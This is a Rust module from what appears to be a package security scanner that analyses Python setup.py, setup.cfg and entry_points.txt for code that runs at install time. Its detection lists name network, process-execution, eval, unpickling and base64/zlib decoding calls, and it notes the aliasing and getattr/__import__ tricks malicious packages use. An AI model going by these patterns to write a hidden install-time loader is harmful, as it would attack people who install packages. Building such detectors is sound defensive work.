//! Python manifests: `setup.py` (tree-sitter), `pyproject.toml`, `setup.cfg` and the
//! `entry_points.txt` of wheel and egg metadata.
//!
//! `setup.py` runs whenever pip builds the package from source (an sdist, a git checkout, a
//! local folder); wheels never run it. What it does at module level, in functions it calls from
//! there, and in the setuptools commands it overrides is install-time code.

use std::collections::{HashMap, HashSet};

use serde_json::{Map, Value};
use tree_sitter::{Node, Parser, Tree};

use super::npm::{dependency_finding, is_commit, Source};
use super::{at_line, clip, parent, MAX_MANIFEST_BYTES};
use crate::archive::PackageTree;
use crate::finding::{Category, Finding, Severity};

/// Nesting followed when resolving names, strings and reads (hostile input nests deeply).
const MAX_DEPTH: usize = 32;

const WHEN: &str = "setup.py runs when pip builds this package from source (sdist, git or a \
                    local folder); wheels do not run it";

// ---------------------------------------------------------------------------------------------
// What a call does

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    Network,
    Exec,
    Eval,
    Decode,
    /// `subprocess.*(["git", …])`: almost always a version lookup.
    Git,
    /// `exec(open("pkg/version.py").read())`: runs a file of the package.
    ExecFile,
}

impl Kind {
    fn rule(self) -> &'static str {
        match self {
            Kind::Network => "manifest.install-script.setup-network",
            Kind::Exec => "manifest.install-script.setup-exec",
            Kind::Eval => "manifest.install-script.setup-eval",
            Kind::Decode => "manifest.install-script.setup-decode",
            Kind::Git => "manifest.install-script.setup-git-version",
            Kind::ExecFile => "manifest.install-script.setup-exec-file",
        }
    }
    fn severity(self) -> Severity {
        match self {
            Kind::Network | Kind::Exec | Kind::Eval => Severity::Critical,
            Kind::Decode => Severity::High,
            Kind::Git => Severity::Medium,
            Kind::ExecFile => Severity::Low,
        }
    }
    fn dangerous(self) -> bool {
        matches!(self, Kind::Network | Kind::Exec | Kind::Eval)
    }
    fn verb(self) -> &'static str {
        match self {
            Kind::Network => "opens a network connection",
            Kind::Exec => "starts a process",
            Kind::Eval => "evaluates code",
            Kind::Decode => "decodes data",
            Kind::Git => "runs git",
            Kind::ExecFile => "executes a file of the package",
        }
    }
}

const NETWORK: &[&str] = &[
    "urllib.request.urlopen",
    "urllib.request.urlretrieve",
    "urllib.request.build_opener",
    "urllib.urlopen",
    "urllib.urlretrieve",
    "urllib2.urlopen",
    "urllib2.build_opener",
    "http.client.HTTPConnection",
    "http.client.HTTPSConnection",
    "httplib.HTTPConnection",
    "httplib.HTTPSConnection",
    "socket.socket",
    "socket.create_connection",
    "ftplib.FTP",
    "ftplib.FTP_TLS",
    "smtplib.SMTP",
    "smtplib.SMTP_SSL",
    "telnetlib.Telnet",
    "pycurl.Curl",
    "wget.download",
    "paramiko.SSHClient",
    "aiohttp.ClientSession",
    "aiohttp.request",
];
/// Modules whose every request function is network access.
const NETWORK_MODULES: &[(&str, &[&str])] = &[
    (
        "requests",
        &[
            "get", "post", "put", "patch", "delete", "head", "options", "request", "Session",
            "session",
        ],
    ),
    (
        "httpx",
        &[
            "get",
            "post",
            "put",
            "patch",
            "delete",
            "head",
            "options",
            "request",
            "stream",
            "Client",
            "AsyncClient",
        ],
    ),
    (
        "urllib3",
        &[
            "PoolManager",
            "ProxyManager",
            "request",
            "connection_from_url",
        ],
    ),
];
const EXEC: &[&str] = &[
    "subprocess.run",
    "subprocess.call",
    "subprocess.check_call",
    "subprocess.check_output",
    "subprocess.Popen",
    "subprocess.getoutput",
    "subprocess.getstatusoutput",
    "os.system",
    "os.popen",
    "os.popen2",
    "os.popen3",
    "os.popen4",
    "os.startfile",
    "os.posix_spawn",
    "os.posix_spawnp",
    "pty.spawn",
    "commands.getoutput",
    "commands.getstatusoutput",
    "platform.popen",
    "asyncio.create_subprocess_exec",
    "asyncio.create_subprocess_shell",
];
const EVAL: &[&str] = &[
    "builtins.exec",
    "builtins.eval",
    "marshal.loads",
    "pickle.loads",
    "cPickle.loads",
    "dill.loads",
];
const DECODE: &[&str] = &[
    "base64.b64decode",
    "base64.b32decode",
    "base64.b16decode",
    "base64.b85decode",
    "base64.a85decode",
    "base64.decodebytes",
    "base64.decodestring",
    "base64.urlsafe_b64decode",
    "base64.standard_b64decode",
    "codecs.decode",
    "zlib.decompress",
    "bz2.decompress",
    "lzma.decompress",
    "gzip.decompress",
    "binascii.a2b_base64",
    "binascii.unhexlify",
    "binascii.a2b_hex",
    "bytes.fromhex",
];

fn kind_of(q: &str) -> Option<Kind> {
    if NETWORK.contains(&q) {
        return Some(Kind::Network);
    }
    if let Some((module, name)) = q.split_once('.') {
        if NETWORK_MODULES
            .iter()
            .any(|(m, names)| *m == module && names.contains(&name))
        {
            return Some(Kind::Network);
        }
    }
    if EXEC.contains(&q) {
        return Some(Kind::Exec);
    }
    if let Some(name) = q.strip_prefix("os.") {
        if name.starts_with("exec") || name.starts_with("spawn") {
            return Some(Kind::Exec);
        }
    }
    if EVAL.contains(&q) {
        return Some(Kind::Eval);
    }
    if DECODE.contains(&q) {
        return Some(Kind::Decode);
    }
    None
}

/// Builtins that matter here; anything else unbound stays its bare name.
const BUILTINS: &[&str] = &["exec", "eval", "compile", "open", "getattr", "__import__"];

/// Standard command names an override of which runs during builds and installs.
const COMMANDS: &[&str] = &[
    "install",
    "develop",
    "egg_info",
    "build",
    "build_py",
    "build_ext",
    "build_clib",
    "build_scripts",
    "sdist",
    "install_lib",
    "install_scripts",
    "install_data",
    "install_egg_info",
    "bdist_egg",
    "bdist_wheel",
    "editable_wheel",
    "dist_info",
    "easy_install",
];

/// The command a qualified base class is (`setuptools.command.install.install` → `install`).
fn command_base(q: &str) -> Option<&'static str> {
    let (prefix, name) = q.rsplit_once('.')?;
    let from_build_tool = [
        "setuptools",
        "distutils",
        "wheel",
        "numpy.distutils",
        "Cython",
    ]
    .iter()
    .any(|t| prefix == *t || prefix.starts_with(&format!("{t}.")));
    if !from_build_tool {
        return None;
    }
    COMMANDS.iter().find(|c| **c == name).copied()
}

// ---------------------------------------------------------------------------------------------
// setup.py

struct Hit {
    kind: Kind,
    call: String,
    line: u32,
    column: u32,
    end_line: u32,
    /// The local function the call sits in, when reached through one.
    via: Option<String>,
    detail: Option<String>,
}

struct Setup<'a> {
    src: &'a [u8],
    /// Local name → qualified name (`sp` → `subprocess`, `urlopen` → `urllib.request.urlopen`).
    bindings: HashMap<String, String>,
    /// Modules imported with `*`.
    wildcards: Vec<String>,
    /// Module-level functions by name.
    functions: HashMap<String, Node<'a>>,
    /// Names bound by `with open("literal") as f` → the literal.
    file_vars: HashMap<String, String>,
    /// Module-level `name = {…}` / `name = dict(…)`, for `cmdclass=name`.
    dicts: HashMap<String, Node<'a>>,
    /// `name["key"] = value` assignments to such dicts.
    dict_items: HashMap<String, Vec<(String, String)>>,
}

fn parse_python(src: &[u8]) -> Option<Tree> {
    let mut p = Parser::new();
    p.set_language(&tree_sitter_python::LANGUAGE.into()).ok()?;
    p.parse(src, None)
}

/// Children of `n` that are named and not comments.
fn args<'t>(n: Node<'t>) -> Vec<Node<'t>> {
    let mut c = n.walk();
    n.named_children(&mut c)
        .filter(|n| n.kind() != "comment")
        .collect()
}

/// Iterative pre-order walk; `descend` decides whether to enter a node's children (the root is
/// always entered).
fn walk<'t>(
    root: Node<'t>,
    mut descend: impl FnMut(Node<'t>) -> bool,
    mut visit: impl FnMut(Node<'t>),
) {
    let mut stack = vec![root];
    let mut first = true;
    while let Some(n) = stack.pop() {
        visit(n);
        if !first && !descend(n) {
            continue;
        }
        first = false;
        let mut c = n.walk();
        let kids: Vec<Node<'t>> = n.children(&mut c).collect();
        stack.extend(kids.into_iter().rev());
    }
}

fn is_def(n: Node) -> bool {
    matches!(
        n.kind(),
        "function_definition" | "class_definition" | "lambda"
    )
}

impl<'a> Setup<'a> {
    fn text(&self, n: Node) -> &'a str {
        std::str::from_utf8(&self.src[n.byte_range()]).unwrap_or("")
    }

    /// A plain string literal's value (no f-string substitutions).
    fn string_value(&self, n: Node) -> Option<String> {
        self.string_value_at(n, 0)
    }

    fn string_value_at(&self, n: Node, depth: usize) -> Option<String> {
        if depth > MAX_DEPTH {
            return None;
        }
        match n.kind() {
            "string" => {
                let mut out = String::new();
                for c in args(n) {
                    match c.kind() {
                        "string_content" => out.push_str(self.text(c)),
                        "interpolation" => return None,
                        _ => {}
                    }
                }
                Some(out)
            }
            "concatenated_string" => {
                let mut out = String::new();
                for c in args(n) {
                    out.push_str(&self.string_value_at(c, depth + 1)?);
                }
                Some(out)
            }
            "parenthesized_expression" => self.string_value_at(*args(n).first()?, depth + 1),
            _ => None,
        }
    }

    fn bind_imports(&mut self, root: Node<'a>) {
        walk(
            root,
            |_| true,
            |n| match n.kind() {
                "import_statement" => {
                    let mut c = n.walk();
                    for name in n.children_by_field_name("name", &mut c) {
                        match name.kind() {
                            "dotted_name" => {
                                let t = self.text(name);
                                let first = t.split('.').next().unwrap_or(t).trim();
                                self.bindings.insert(first.to_string(), first.to_string());
                            }
                            "aliased_import" => {
                                if let (Some(m), Some(a)) = (
                                    name.child_by_field_name("name"),
                                    name.child_by_field_name("alias"),
                                ) {
                                    let m = normalize_dotted(self.text(m));
                                    self.bindings.insert(self.text(a).to_string(), m);
                                }
                            }
                            _ => {}
                        }
                    }
                }
                "import_from_statement" => {
                    let Some(module) = n.child_by_field_name("module_name") else {
                        return;
                    };
                    let module = normalize_dotted(self.text(module));
                    let mut c = n.walk();
                    for name in n.children_by_field_name("name", &mut c) {
                        let (orig, local) = match name.kind() {
                            "dotted_name" => (self.text(name), self.text(name)),
                            "aliased_import" => match (
                                name.child_by_field_name("name"),
                                name.child_by_field_name("alias"),
                            ) {
                                (Some(m), Some(a)) => (self.text(m), self.text(a)),
                                _ => continue,
                            },
                            _ => continue,
                        };
                        self.bindings.insert(
                            local.to_string(),
                            format!("{module}.{}", normalize_dotted(orig)),
                        );
                    }
                    let mut c = n.walk();
                    if n.children(&mut c).any(|k| k.kind() == "wildcard_import") {
                        self.wildcards.push(module);
                    }
                }
                _ => {}
            },
        );
    }

    /// Module-level definitions, aliases, dicts and `with open(…) as f` names, in order.
    fn bind_module(&mut self, module: Node<'a>) {
        walk(
            module,
            |n| !is_def(n),
            |n| match n.kind() {
                "function_definition" => {
                    if let Some(name) = n.child_by_field_name("name") {
                        self.functions.insert(self.text(name).to_string(), n);
                    }
                }
                "assignment" => self.bind_assignment(n),
                "with_item" => {
                    let Some(v) = n.child_by_field_name("value") else {
                        return;
                    };
                    if v.kind() != "as_pattern" {
                        return;
                    }
                    let (Some(opened), Some(target)) =
                        (args(v).first().copied(), v.child_by_field_name("alias"))
                    else {
                        return;
                    };
                    if let Some(file) = self.opened_file(opened) {
                        let name = self.text(target).trim().to_string();
                        self.file_vars.insert(name, file);
                    }
                }
                _ => {}
            },
        );
    }

    fn bind_assignment(&mut self, n: Node<'a>) {
        let (Some(left), Some(right)) = (
            n.child_by_field_name("left"),
            n.child_by_field_name("right"),
        ) else {
            return;
        };
        match left.kind() {
            "identifier" => {
                let name = self.text(left).to_string();
                match right.kind() {
                    "dictionary" => {
                        self.dicts.insert(name, right);
                    }
                    "call" if self.callee(right).as_deref() == Some("dict") => {
                        self.dicts.insert(name, right);
                    }
                    // `run = subprocess.run`, `sp = __import__("subprocess")`: aliases of
                    // imported names, not of arbitrary locals.
                    "identifier" | "attribute" => {
                        let imported = self
                            .root_identifier(right)
                            .is_some_and(|r| self.bindings.contains_key(r));
                        if let (true, Some(q)) = (imported, self.qualify(right)) {
                            self.bindings.insert(name, q);
                        }
                    }
                    "call" => {
                        if let Some(q) = self.qualify(right) {
                            self.bindings.insert(name, q);
                        }
                    }
                    _ => {}
                }
            }
            "subscript" => {
                // `cmdclass["install"] = PostInstall`
                let (Some(value), Some(key)) = (
                    left.child_by_field_name("value"),
                    left.child_by_field_name("subscript"),
                ) else {
                    return;
                };
                if let (true, Some(k)) = (value.kind() == "identifier", self.string_value(key)) {
                    let (dict, v) = (self.text(value), self.text(right));
                    self.dict_items
                        .entry(dict.to_string())
                        .or_default()
                        .push((k, v.to_string()));
                }
            }
            _ => {}
        }
    }

    /// The qualified name an expression stands for.
    fn qualify(&self, n: Node) -> Option<String> {
        self.qualify_at(n, 0)
    }

    fn qualify_at(&self, n: Node, depth: usize) -> Option<String> {
        if depth > MAX_DEPTH {
            return None;
        }
        match n.kind() {
            "identifier" => {
                let t = self.text(n);
                if let Some(q) = self.bindings.get(t) {
                    return Some(q.clone());
                }
                if self.functions.contains_key(t) {
                    return Some(t.to_string());
                }
                if BUILTINS.contains(&t) {
                    return Some(format!("builtins.{t}"));
                }
                for m in &self.wildcards {
                    let q = format!("{m}.{t}");
                    if kind_of(&q).is_some() {
                        return Some(q);
                    }
                }
                Some(t.to_string())
            }
            "attribute" => {
                let object = self.qualify_at(n.child_by_field_name("object")?, depth + 1)?;
                let attr = self.text(n.child_by_field_name("attribute")?);
                Some(format!("{object}.{attr}"))
            }
            "parenthesized_expression" => self.qualify_at(*args(n).first()?, depth + 1),
            "call" => {
                // `getattr(os, "system")`, `__import__("os")`, `importlib.import_module("os")`.
                let f = self.qualify_at(n.child_by_field_name("function")?, depth + 1)?;
                let a = args(n.child_by_field_name("arguments")?);
                match f.as_str() {
                    "builtins.getattr" => {
                        let object = self.qualify_at(*a.first()?, depth + 1)?;
                        let attr = self.string_value(*a.get(1)?)?;
                        Some(format!("{object}.{attr}"))
                    }
                    "builtins.__import__" | "importlib.import_module" => {
                        self.string_value(*a.first()?)
                    }
                    _ => None,
                }
            }
            _ => None,
        }
    }

    /// The leftmost identifier of an attribute chain.
    fn root_identifier(&self, mut n: Node) -> Option<&'a str> {
        for _ in 0..=MAX_DEPTH {
            match n.kind() {
                "identifier" => return Some(self.text(n)),
                "attribute" => n = n.child_by_field_name("object")?,
                _ => return None,
            }
        }
        None
    }

    fn callee(&self, call: Node) -> Option<String> {
        self.qualify(call.child_by_field_name("function")?)
    }

    /// `"pkg/version.py"` or `os.path.join(here, "pkg", "version.py")` → the literal path.
    fn literal_path(&self, n: Node) -> Option<String> {
        if let Some(s) = self.string_value(n) {
            return Some(s);
        }
        if n.kind() == "call" && self.callee(n).as_deref() == Some("os.path.join") {
            let parts: Vec<String> = args(n.child_by_field_name("arguments")?)
                .into_iter()
                .filter_map(|a| self.string_value(a))
                .collect();
            if !parts.is_empty() {
                return Some(parts.join("/"));
            }
        }
        None
    }

    /// `open("x")`, `io.open("x")`, `codecs.open("x")`, `pathlib.Path("x")` → `x`.
    fn opened_file(&self, n: Node) -> Option<String> {
        if n.kind() != "call" {
            return None;
        }
        let f = self.callee(n)?;
        if !matches!(
            f.as_str(),
            "builtins.open" | "io.open" | "codecs.open" | "pathlib.Path"
        ) {
            return None;
        }
        self.literal_path(*args(n.child_by_field_name("arguments")?).first()?)
    }

    /// `open("x").read()`, `f.read()` (f from `with open("x") as f`), `compile(<that>, …)`.
    fn file_read(&self, n: Node) -> Option<String> {
        self.file_read_at(n, 0)
    }

    fn file_read_at(&self, n: Node, depth: usize) -> Option<String> {
        if n.kind() != "call" || depth > MAX_DEPTH {
            return None;
        }
        let func = n.child_by_field_name("function")?;
        if func.kind() == "attribute" {
            let method = self.text(func.child_by_field_name("attribute")?);
            if method == "read" || method == "read_text" {
                let object = func.child_by_field_name("object")?;
                if object.kind() == "identifier" {
                    return self.file_vars.get(self.text(object)).cloned();
                }
                return self.opened_file(object);
            }
            return None;
        }
        if self.qualify(func).as_deref() == Some("builtins.compile") {
            return self.file_read_at(
                *args(n.child_by_field_name("arguments")?).first()?,
                depth + 1,
            );
        }
        None
    }

    /// `["git", …]` or `"git describe …"` without shell syntax.
    fn is_git(&self, n: Node) -> bool {
        match n.kind() {
            "list" | "tuple" => args(n)
                .first()
                .and_then(|a| self.string_value(*a))
                .is_some_and(|s| s == "git"),
            _ => self.string_value(n).is_some_and(|s| {
                s.starts_with("git ") && !s.contains(['|', ';', '&', '$', '`', '>', '<'])
            }),
        }
    }

    fn classify(&self, call: Node, via: &Option<String>) -> Option<Hit> {
        let q = self.callee(call)?;
        let mut kind = kind_of(&q)?;
        let first = call
            .child_by_field_name("arguments")
            .and_then(|a| args(a).first().copied());
        let mut detail = None;
        match kind {
            Kind::Eval if q == "builtins.exec" || q == "builtins.eval" => {
                if let Some(file) = first.and_then(|a| self.file_read(a)) {
                    kind = Kind::ExecFile;
                    detail = Some(file);
                } else if let Some(a) = first {
                    detail = Some(clip(self.text(a), 200));
                }
            }
            Kind::Exec => {
                if let Some(a) = first {
                    if self.is_git(a) {
                        kind = Kind::Git;
                    }
                    detail = Some(clip(self.text(a), 200));
                }
            }
            _ => {
                if let Some(a) = first {
                    detail = Some(clip(self.text(a), 200));
                }
            }
        }
        let start = call.start_position();
        Some(Hit {
            kind,
            call: q,
            line: start.row as u32 + 1,
            column: start.column as u32 + 1,
            end_line: call.end_position().row as u32 + 1,
            via: via.clone(),
            detail,
        })
    }

    /// Calls reached from `roots`, following calls of module-level functions.
    fn reach(&self, roots: Vec<Node<'a>>, into_defs: bool) -> Vec<Hit> {
        let mut work: Vec<(Node<'a>, Option<String>, bool)> =
            roots.into_iter().map(|r| (r, None, into_defs)).collect();
        let mut seen: HashSet<String> = HashSet::new();
        let mut hits = Vec::new();
        while let Some((root, via, defs)) = work.pop() {
            let mut calls = Vec::new();
            walk(
                root,
                |n| defs || !is_def(n),
                |n| {
                    if n.kind() == "call" {
                        calls.push(n);
                    }
                },
            );
            for call in calls {
                let Some(func) = call.child_by_field_name("function") else {
                    continue;
                };
                if func.kind() == "identifier" {
                    let name = self.text(func);
                    if !self.bindings.contains_key(name) {
                        if let Some(def) = self.functions.get(name) {
                            if seen.insert(name.to_string()) {
                                if let Some(body) = def.child_by_field_name("body") {
                                    let via = via.clone().or_else(|| Some(name.to_string()));
                                    work.push((body, via, false));
                                }
                            }
                            continue;
                        }
                    }
                }
                if let Some(h) = self.classify(call, &via) {
                    hits.push(h);
                }
            }
        }
        hits.sort_by_key(|h| (h.line, h.column));
        hits.dedup_by_key(|h| (h.line, h.column));
        hits
    }

    /// Keyword arguments of every `setup(…)` call.
    fn setup_keywords(&self, root: Node<'a>) -> Vec<(String, Node<'a>, Node<'a>)> {
        let mut out = Vec::new();
        walk(
            root,
            |_| true,
            |n| {
                if n.kind() != "call" {
                    return;
                }
                let is_setup = self.callee(n).is_some_and(|q| {
                    q == "setup"
                        || q.ends_with(".setup")
                            && ["setuptools", "distutils", "numpy", "skbuild"]
                                .iter()
                                .any(|m| q.starts_with(m))
                });
                if !is_setup {
                    return;
                }
                let Some(arglist) = n.child_by_field_name("arguments") else {
                    return;
                };
                for a in args(arglist) {
                    if a.kind() == "keyword_argument" {
                        if let (Some(k), Some(v)) = (
                            a.child_by_field_name("name"),
                            a.child_by_field_name("value"),
                        ) {
                            out.push((self.text(k).to_string(), v, a));
                        }
                    }
                }
            },
        );
        out
    }

    /// Entries of a dict literal, `dict(k=v)` call, or a module-level name bound to either.
    fn dict_entries(&self, n: Node<'a>) -> Option<Vec<(String, Node<'a>)>> {
        match n.kind() {
            "dictionary" => Some(
                args(n)
                    .into_iter()
                    .filter(|p| p.kind() == "pair")
                    .filter_map(|p| {
                        let k = self.string_value(p.child_by_field_name("key")?)?;
                        Some((k, p.child_by_field_name("value")?))
                    })
                    .collect(),
            ),
            "call" if self.callee(n).as_deref() == Some("dict") => Some(
                args(n.child_by_field_name("arguments")?)
                    .into_iter()
                    .filter(|a| a.kind() == "keyword_argument")
                    .filter_map(|a| {
                        Some((
                            self.text(a.child_by_field_name("name")?).to_string(),
                            a.child_by_field_name("value")?,
                        ))
                    })
                    .collect(),
            ),
            "identifier" => self.dict_entries(*self.dicts.get(self.text(n))?),
            _ => None,
        }
    }

    /// String elements of a list/tuple literal.
    fn string_list(&self, n: Node) -> Vec<(String, u32)> {
        match n.kind() {
            "list" | "tuple" => args(n)
                .into_iter()
                .filter_map(|a| Some((self.string_value(a)?, a.start_position().row as u32 + 1)))
                .collect(),
            _ => Vec::new(),
        }
    }
}

/// `a . b` → `a.b`.
fn normalize_dotted(s: &str) -> String {
    s.chars().filter(|c| !c.is_whitespace()).collect()
}

fn hit_text(h: &Hit) -> String {
    format!("{} (line {})", h.call, h.line)
}

pub(super) fn setup_py(path: &str, bytes: &[u8], out: &mut Vec<Finding>) {
    if bytes.len() > MAX_MANIFEST_BYTES {
        out.push(
            Finding::new(
                "manifest.install-script.setup-too-large",
                Category::InstallScript,
                Severity::High,
                path,
                format!(
                    "setup.py is {} bytes, too large to analyse; {WHEN}",
                    bytes.len()
                ),
            )
            .with("bytes", bytes.len() as u64),
        );
        return;
    }
    let Some(tree) = parse_python(bytes) else {
        return;
    };
    let root = tree.root_node();
    let mut s = Setup {
        src: bytes,
        bindings: HashMap::new(),
        wildcards: Vec::new(),
        functions: HashMap::new(),
        file_vars: HashMap::new(),
        dicts: HashMap::new(),
        dict_items: HashMap::new(),
    };
    s.bind_imports(root);
    s.bind_module(root);

    // cmdclass and other setup() keywords.
    let mut registered: HashMap<String, String> = HashMap::new(); // class name → command
    for (key, value, kw) in s.setup_keywords(root) {
        let line = Some(kw.start_position().row as u32 + 1);
        match key.as_str() {
            "cmdclass" => {
                let mut commands = Map::new();
                let mut names: Vec<String> = Vec::new();
                let mut entries: Vec<(String, String)> = s
                    .dict_entries(value)
                    .unwrap_or_default()
                    .into_iter()
                    .map(|(k, v)| (k, s.text(v).to_string()))
                    .collect();
                if value.kind() == "identifier" {
                    if let Some(items) = s.dict_items.get(s.text(value)) {
                        entries.extend(items.iter().cloned());
                    }
                }
                for (k, v) in &entries {
                    registered.insert(v.clone(), k.clone());
                    commands.insert(k.clone(), Value::from(clip(v, 200)));
                    names.push(k.clone());
                }
                let mut f = Finding::new(
                    "manifest.install-script.setup-cmdclass",
                    Category::InstallScript,
                    Severity::High,
                    path,
                    if names.is_empty() {
                        format!(
                            "setup.py replaces setuptools commands (cmdclass={}); {WHEN}",
                            clip(s.text(value), 120)
                        )
                    } else {
                        format!(
                            "setup.py replaces the setuptools command{} {}; {WHEN}",
                            if names.len() == 1 { "" } else { "s" },
                            names.join(", ")
                        )
                    },
                );
                if commands.is_empty() {
                    f = f.with("cmdclass", clip(s.text(value), 200));
                } else {
                    f = f.with("commands", commands);
                }
                out.push(at_line(f, line));
            }
            "ext_modules" => {
                let empty = matches!(value.kind(), "list" | "tuple") && args(value).is_empty();
                if !empty {
                    out.push(at_line(
                        Finding::new(
                            "manifest.install-script.setup-native-build",
                            Category::InstallScript,
                            Severity::High,
                            path,
                            format!("setup.py compiles native extensions (ext_modules); {WHEN}"),
                        )
                        .with("ext_modules", clip(s.text(value), 200)),
                        line,
                    ));
                }
            }
            "entry_points" => {
                let mut commands = Map::new();
                if let Some(entries) = s.dict_entries(value) {
                    for (group, v) in entries {
                        if group == "console_scripts" || group == "gui_scripts" {
                            for (spec, _) in s.string_list(v) {
                                if let Some((n, t)) = spec.split_once('=') {
                                    commands.insert(n.trim().to_string(), t.trim().into());
                                }
                            }
                        }
                    }
                } else if let Some(text) = s.string_value(value) {
                    commands = ini_scripts(&ini(&text), "console_scripts", "gui_scripts");
                }
                if !commands.is_empty() {
                    out.push(at_line(entry_points_finding(path, commands), line));
                }
            }
            "install_requires" | "setup_requires" => {
                for (req, l) in s.string_list(value) {
                    if let Some((name, source)) = direct_reference(&req) {
                        let f = dependency_finding(path, &key, &name, &req, &source, false);
                        out.push(at_line(f, Some(l)));
                    }
                }
            }
            _ => {}
        }
    }

    // Classes overriding setuptools/distutils commands (directly or through a local class).
    let mut classes: Vec<(Node, String, String)> = Vec::new(); // node, name, command
    let mut class_nodes: Vec<Node> = Vec::new();
    walk(
        root,
        |_| true,
        |n| {
            if n.kind() == "class_definition" {
                class_nodes.push(n);
            }
        },
    );
    let mut local_commands: HashMap<String, String> = HashMap::new();
    for _ in 0..3 {
        for &n in &class_nodes {
            let Some(name) = n.child_by_field_name("name").map(|x| s.text(x).to_string()) else {
                continue;
            };
            if local_commands.contains_key(&name) {
                continue;
            }
            let Some(supers) = n.child_by_field_name("superclasses") else {
                continue;
            };
            for b in args(supers) {
                if b.kind() == "keyword_argument" {
                    continue;
                }
                let cmd = s.qualify(b).and_then(|q| {
                    command_base(&q)
                        .map(str::to_string)
                        .or_else(|| local_commands.get(&q).cloned())
                });
                if let Some(cmd) = cmd {
                    local_commands.insert(name.clone(), cmd.clone());
                    classes.push((n, name.clone(), cmd));
                    break;
                }
            }
        }
    }
    classes.sort_by_key(|(n, _, _)| n.start_byte());
    for (n, name, cmd) in classes {
        let hits = s.reach(vec![n], true);
        let dangerous: Vec<&Hit> = hits.iter().filter(|h| h.kind.dangerous()).collect();
        let severity = if dangerous.is_empty() {
            Severity::High
        } else {
            Severity::Critical
        };
        let mut message = format!("class {name} overrides the setuptools `{cmd}` command");
        if let Some(as_cmd) = registered.get(&name) {
            message.push_str(&format!(" and is registered as cmdclass `{as_cmd}`"));
        }
        if !dangerous.is_empty() {
            let mut what: Vec<&str> = dangerous.iter().map(|h| h.kind.verb()).collect();
            what.dedup();
            message.push_str(&format!("; its code {}", what.join(", ")));
        }
        message.push_str(&format!("; {WHEN}"));
        let start = n.start_position();
        let mut f = Finding::new(
            "manifest.install-script.setup-command-class",
            Category::InstallScript,
            severity,
            path,
            message,
        )
        .with("class", name.as_str())
        .with("command", cmd.as_str());
        if let Some(as_cmd) = registered.get(&name) {
            f = f.with("registered_as", as_cmd.as_str());
        }
        if !hits.is_empty() {
            f = f.with(
                "calls",
                hits.iter()
                    .map(|h| Value::from(hit_text(h)))
                    .collect::<Vec<_>>(),
            );
        }
        f.line = Some(start.row as u32 + 1);
        f.column = Some(start.column as u32 + 1);
        f.end_line = Some(n.end_position().row as u32 + 1);
        out.push(f);
    }

    // What runs at module level (and in the functions it calls).
    for h in s.reach(vec![root], false) {
        let mut message = format!("setup.py {} at module level ({})", h.kind.verb(), h.call);
        if let Some(via) = &h.via {
            message.push_str(&format!(", inside {via}() which module level calls"));
        }
        if h.kind == Kind::ExecFile {
            if let Some(file) = &h.detail {
                message.push_str(&format!(": {}", clip(file, 120)));
            }
        }
        message.push_str(&format!("; {WHEN}"));
        let mut f = Finding::new(
            h.kind.rule(),
            Category::InstallScript,
            h.kind.severity(),
            path,
            message,
        )
        .with("call", h.call.as_str());
        if let Some(d) = &h.detail {
            f = f.with(
                if h.kind == Kind::ExecFile {
                    "file"
                } else {
                    "argument"
                },
                d.as_str(),
            );
        }
        if let Some(via) = &h.via {
            f = f.with("via", via.as_str());
        }
        f.line = Some(h.line);
        f.column = Some(h.column);
        f.end_line = Some(h.end_line);
        out.push(f);
    }
}

// ---------------------------------------------------------------------------------------------
// PEP 508 direct references

/// `name @ url` → (name, source); `None` for ordinary requirements.
pub(crate) fn direct_reference(req: &str) -> Option<(String, Source)> {
    let (name, rest) = req.split_once('@')?;
    let name = name.trim();
    let name = name.split('[').next().unwrap_or(name).trim();
    if name.is_empty()
        || !name
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "-_.".contains(c))
    {
        return None;
    }
    let url = rest.trim();
    let url = url.split(" ;").next().unwrap_or(url).trim();
    Some((name.to_string(), url_source(url)?))
}

/// Where a URL requirement comes from (`git+https://…@ref`, `https://…/x.tar.gz`, `file:`).
pub(crate) fn url_source(url: &str) -> Option<Source> {
    let lower = url.to_ascii_lowercase();
    if ["git+", "hg+", "svn+", "bzr+"]
        .iter()
        .any(|v| lower.starts_with(v))
    {
        let tls = !(lower.contains("+http://") || lower.starts_with("git+git://"));
        let no_fragment = url.split('#').next().unwrap_or(url);
        let path = no_fragment
            .split_once("://")
            .map(|(_, r)| r)
            .and_then(|r| r.split_once('/'))
            .map(|(_, p)| p)
            .unwrap_or("");
        let commit = path
            .rsplit_once('@')
            .map(|(_, r)| r.to_string())
            .filter(|r| is_commit(r));
        return Some(Source::Git { tls, commit });
    }
    if lower.starts_with("http://") || lower.starts_with("https://") {
        return Some(Source::Url {
            tls: lower.starts_with("https://"),
        });
    }
    if lower.starts_with("file:") {
        return Some(Source::Local);
    }
    None
}

// ---------------------------------------------------------------------------------------------
// INI (setup.cfg, entry_points.txt)

struct IniEntry {
    section: String,
    key: String,
    value: String,
    line: u32,
}

/// configparser-style entries: `key = value` or `key: value`, indented continuation lines.
fn ini(text: &str) -> Vec<IniEntry> {
    let mut out: Vec<IniEntry> = Vec::new();
    let mut section = String::new();
    for (i, raw) in text.lines().enumerate() {
        let line = raw.trim_end();
        let t = line.trim_start();
        if t.is_empty() || t.starts_with('#') || t.starts_with(';') {
            continue;
        }
        if line.starts_with([' ', '\t']) {
            if let Some(last) = out.last_mut() {
                if last.section == section {
                    last.value.push('\n');
                    last.value.push_str(t);
                }
            }
            continue;
        }
        if let Some(name) = t.strip_prefix('[').and_then(|r| r.strip_suffix(']')) {
            section = name.trim().to_string();
            continue;
        }
        if let Some(i_d) = t.find(['=', ':']) {
            out.push(IniEntry {
                section: section.clone(),
                key: t[..i_d].trim().to_string(),
                value: t[i_d + 1..].trim().to_string(),
                line: i as u32 + 1,
            });
        }
    }
    out
}

/// Scripts of `[console_scripts]`/`[gui_scripts]` sections (entry_points.txt) or keys.
fn ini_scripts(entries: &[IniEntry], a: &str, b: &str) -> Map<String, Value> {
    let mut m = Map::new();
    for e in entries {
        if e.section == a || e.section == b {
            m.insert(e.key.clone(), e.value.clone().into());
        }
    }
    m
}

fn entry_points_finding(path: &str, commands: Map<String, Value>) -> Finding {
    let names: Vec<&str> = commands.keys().map(String::as_str).collect();
    Finding::new(
        "manifest.entry-points.console-scripts",
        Category::InstallScript,
        Severity::Info,
        path,
        format!(
            "installs command{} {} (what `uvx`/`pipx run` start)",
            if names.len() == 1 { "" } else { "s" },
            clip(&names.join(", "), 200)
        ),
    )
    .with("commands", commands)
}

